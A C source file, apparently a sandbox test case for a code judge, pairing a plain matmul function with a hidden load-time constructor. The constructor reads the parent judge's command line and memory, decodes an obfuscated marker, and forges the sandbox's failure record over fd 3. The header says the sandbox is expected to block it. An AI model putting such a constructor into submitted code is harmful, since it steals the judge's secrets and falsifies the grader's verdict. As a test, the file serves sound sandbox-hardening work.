/* ctor_forge.c: a constructor that reads its judge's command line
 * (/proc/PPID/cmdline, where a fleet's queue password once was) and its
 * memory (/proc/PPID/mem), then forges the sandbox's failure record with
 * what it read, so that the text becomes the candidate's reason; the kernel
 * is right -> forbidden at its first open, the forged text nowhere. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* the sandbox's record as it was: four u32, two u64, a status, 64 slots,
 * 65 values, 256 bytes of text */
struct record {
    uint32_t op, seq, nargs, slot;
    uint64_t bytes, data_offset;
    int32_t status;
    int32_t bufslot[64];
    uint64_t args[64], ret;
    char text[256];
};

__attribute__((constructor)) static void snoop(void) {
    char stat[512] = {0}, path[64], cmdline[200] = {0};
    int f = open("/proc/self/stat", O_RDONLY);
    if (f >= 0) { if (read(f, stat, sizeof stat - 1) < 0) stat[0] = 0; close(f); }
    const char *close_paren = strrchr(stat, ')');
    int ppid = close_paren ? atoi(close_paren + 4) : 1;
    snprintf(path, sizeof path, "/proc/%d/cmdline", ppid);
    f = open(path, O_RDONLY);
    ssize_t n = f >= 0 ? read(f, cmdline, sizeof cmdline - 1) : -1;
    for (ssize_t i = 0; i < n; i++) if (!cmdline[i]) cmdline[i] = ' ';
    snprintf(path, sizeof path, "/proc/%d/mem", ppid);
    int mem = open(path, O_RDONLY);
    /* the marker, made here so the source does not hold it: "FORGED-BY-CTOR" */
    char mark[] = "GPSHFE.CZ.DUPS";
    for (char *p = mark; *p; p++) *p = (char)(*p - 1);
    static struct record r;
    r.op = 13;
    r.status = -5;
    snprintf(r.text, sizeof r.text, "%s mem=%d cmdline=%s", mark, mem, cmdline);
    struct iovec iov = {&r, sizeof r};
    struct msghdr h = {.msg_iov = &iov, .msg_iovlen = 1};
    sendmsg(3, &h, 0);
}

void matmul(int n, const float *a, const float *b, float *c) {
    for (int i = 0; i < n; i++)
        for (int j = 0; j < n; j++) {
            float acc = 0;
            for (int k = 0; k < n; k++) acc += a[i * n + k] * b[k * n + j];
            c[i * n + j] = acc;
        }
}
